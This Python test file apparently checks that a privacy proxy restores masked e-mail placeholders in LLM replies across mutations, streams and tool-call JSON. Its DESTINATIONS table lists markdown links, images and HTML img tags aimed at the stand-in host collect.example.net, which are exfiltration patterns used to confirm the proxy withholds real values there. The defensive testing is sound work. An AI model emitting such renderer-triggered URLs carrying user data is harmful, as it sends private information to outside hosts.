"""What models do to placeholders: each mutation is restored or left, and never another value.

The fake model mangles the placeholder it saw, in every format, streamed and plain.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from mitmguard.cli.fakellm import Asked, Behavior, Call, Part, Say
from tests.live.clients import CLIENTS, Prompt, User
from tests.live.evidence import leaks
from tests.live.upstream import Upstream
from tests.live.values import Values, make

pytestmark = [pytest.mark.live, pytest.mark.timeout(60)]

FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}
SEPARATOR = re.compile(r"[_-]")


def first_separator(text: str, instead: str) -> str:
    return SEPARATOR.sub(lambda found: instead.replace("~", found[0]), text, count=1)


type Mutation = Callable[[str], str]

RESTORED: dict[str, Mutation] = {
    "as it is": lambda p: p,
    "bold": lambda p: f"**{p}**",
    "code": lambda p: f"`{p}`",
    "lower case": str.lower,
    "upper case": str.upper,
    "double quotes": lambda p: f'"{p}"',
    "curly quotes": lambda p: f"“{p}”",
    "escaped underscores": lambda p: p.replace("_", "\\_"),
    "possessive": lambda p: f"{p}'s",
    "angle brackets": lambda p: f"<{p}>",
    "at the end of a sentence": lambda p: f"{p}.",
}
"""What happens every day: these have to come back."""

RESTORED_OR_LEFT: dict[str, Mutation] = {
    "italic inside": lambda p: f"*{p}*".replace("_", r"*_*", 1),
    "line break": lambda p: first_separator(p, "~\n"),
    "spaces at separators": lambda p: SEPARATOR.sub(" _ ", p),
    "space instead of separators": lambda p: SEPARATOR.sub(" ", p),
    "hyphens": lambda p: p.replace("_", "-"),
    "HTML escape": lambda p: html.escape(f"<{p}>"),
    "HTML numbers": lambda p: p.replace("_", "&#95;"),
    "URL escape": lambda p: quote(f"<{p}>", safe="").replace("_", "%5F"),
    "full width": lambda p: p.translate(FULL_WIDTH),
    "plural": lambda p: f"{p}s",
    "translated type": lambda p: "CORREIO_" + p.rpartition("_")[2],
    "no type": lambda p: p.rpartition("_")[2],
    "title case": str.title,
    "zero width space": lambda p: p[:4] + "\u200b" + p[4:],
    "twice": lambda p: f"{p}{p}",
}

LEFT: dict[str, Mutation] = {
    "last symbol missing": lambda p: p[:-1],
    "cut in half": lambda p: p[: -len(p.rpartition("_")[2]) // 2],
    "first symbol wrong": lambda p: p.rpartition("_")[0] + "_" + other_symbol(p.rpartition("_")[2]),
    "two symbols swapped": lambda p: swapped(p),
}
"""What is no longer the placeholder: no value may take its place."""

DESTINATIONS: dict[str, Mutation] = {
    "link": lambda p: f"[click](https://collect.example.net/?q={p})",
    "image": lambda p: f"![x](https://collect.example.net/{p}.png)",
    "autolink": lambda p: f"<https://collect.example.net/{p}>",
    "reference": lambda p: f"[x][1]\n\n[1]: https://collect.example.net/{p}\n",
    "HTML image": lambda p: f'<img src="https://collect.example.net/{p}">',
    "bare URL": lambda p: f"https://collect.example.net/?q={p}",
}
"""Where restoring would make the client's renderer send the value away."""


def swapped(placeholder: str) -> str:
    """Swap the last two neighbors in the code that differ: two that are alike would change nothing."""
    at = next(n for n in range(len(placeholder) - 1, 0, -1) if placeholder[n] != placeholder[n - 1])
    return placeholder[: at - 1] + placeholder[at] + placeholder[at - 1] + placeholder[at + 1 :]


def other_symbol(code: str) -> str:
    """Return `code` with its first symbol replaced by another of the alphabet."""
    return ("k" if code[0].lower() != "k" else "m") + code[1:]


BEFORE, AFTER = "Recebi isto: ", " — confirme, por favor."


def mangle(mutation: Mutation, sent: list[str]) -> Callable[[Asked], list[Part]]:
    """Return a reply that mangles the placeholder in the newest text, and notes what it sent."""

    def reply(asked: Asked) -> list[Part]:
        placeholder = asked.newest.removeprefix("Meu e-mail: ").removesuffix(" fim")
        assert placeholder != asked.newest
        sent.append(mutation(placeholder))
        return [Say(BEFORE + sent[-1] + AFTER)]

    return reply


def middles(
    talker: Callable[..., Any],
    upstream: Upstream,
    values: Values,
    name: str,
    mutation: Mutation,
) -> list[tuple[str, str]]:
    """Return pairs of what the model said and what the client got: plain, and two streams."""
    client = talker(name)
    prompt = Prompt((User(f"Meu e-mail: {values.email} fim"),))
    pairs = []
    for stream, delta in ((False, 0), (True, 1), (True, -1)):
        sent: list[str] = []
        upstream.behave(Behavior(reply=mangle(mutation, sent), delta=delta, plain=not stream))
        got = client.talk(prompt, stream=stream).text
        assert got.startswith(BEFORE), got
        assert got.endswith(AFTER), got
        pairs.append((sent[0], got.removeprefix(BEFORE).removesuffix(AFTER)))
    assert leaks(upstream.seen, [values.email]) == []
    return pairs


@pytest.fixture
def other(talker: Callable[..., Any], upstream: Upstream) -> Values:
    """Another person's values, which the guard knows from before."""
    values = make(7)
    talker("chat").talk(Prompt((User(f"Meu e-mail: {values.email} fim"),)), stream=False)
    upstream.reset()
    return values


@pytest.mark.parametrize("mutation", RESTORED)
@pytest.mark.parametrize("name", CLIENTS)
def test_restored(
    talker: Callable[..., Any], upstream: Upstream, values: Values, name: str, mutation: str
) -> None:
    made = RESTORED[mutation]
    for sent, got in middles(talker, upstream, values, name, made):
        plain = values.email if mutation in ("lower case", "upper case") else made(values.email)
        assert got in (plain, values.email), sent


@pytest.mark.parametrize("mutation", RESTORED_OR_LEFT)
@pytest.mark.parametrize("name", CLIENTS)
def test_restored_or_left(
    talker: Callable[..., Any],
    upstream: Upstream,
    values: Values,
    other: Values,
    name: str,
    mutation: str,
) -> None:
    pairs = middles(talker, upstream, values, name, RESTORED_OR_LEFT[mutation])
    for sent, got in pairs:
        assert got == sent or values.email in got
        assert other.email not in got
    assert len({got for _, got in pairs}) == 1, "the cut of the stream must not matter"


@pytest.mark.parametrize("mutation", LEFT)
@pytest.mark.parametrize("name", CLIENTS)
def test_left(
    talker: Callable[..., Any],
    upstream: Upstream,
    values: Values,
    other: Values,
    name: str,
    mutation: str,
) -> None:
    for sent, got in middles(talker, upstream, values, name, LEFT[mutation]):
        assert got == sent
        assert other.email not in got


@pytest.mark.parametrize("where", DESTINATIONS)
@pytest.mark.parametrize("name", CLIENTS)
def test_not_restored_in_a_destination(
    talker: Callable[..., Any], upstream: Upstream, values: Values, name: str, where: str
) -> None:
    for sent, got in middles(talker, upstream, values, name, DESTINATIONS[where]):
        assert values.email not in got
        assert got == sent


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
@pytest.mark.parametrize("name", ["chat", "responses", "anthropic", "ollama"])
def test_restored_in_json_in_json(
    talker: Callable[..., Any], upstream: Upstream, values: Values, name: str, stream: bool
) -> None:
    def reply(asked: Asked) -> list[Part]:
        placeholder = asked.newest.removeprefix("Meu e-mail: ").removesuffix(" fim")
        inner = json.dumps({"note": f'é "{placeholder}"\n'})
        return [Call("save_note", json.dumps({"text": placeholder.lower(), "payload": inner}))]

    upstream.behave(Behavior(reply=reply, delta=1))
    prompt = Prompt((User(f"Meu e-mail: {values.email} fim"),))
    (given,) = talker(name).talk(prompt, stream=stream).read_arguments()
    assert given["text"] == values.email
    assert json.loads(given["payload"]) == {"note": f'é "{values.email}"\n'}


@pytest.mark.parametrize("name", ["chat", "responses", "anthropic", "ollama"])
def test_cut_at_the_end_of_the_tokens(
    talker: Callable[..., Any], upstream: Upstream, values: Values, name: str
) -> None:
    """The answer just ends inside of a placeholder: the beginning is given out, and nothing else."""
    said: list[str] = []

    def reply(asked: Asked) -> list[Part]:
        said.append(asked.newest.removesuffix(" fim")[:-5])
        return [Say(said[-1])]

    upstream.behave(Behavior(reply=reply, delta=3))
    prompt = Prompt((User(f"Meu e-mail: {values.email} fim"),))
    for stream in (False, True):
        assert talker(name).talk(prompt, stream=stream).text == said[-1]
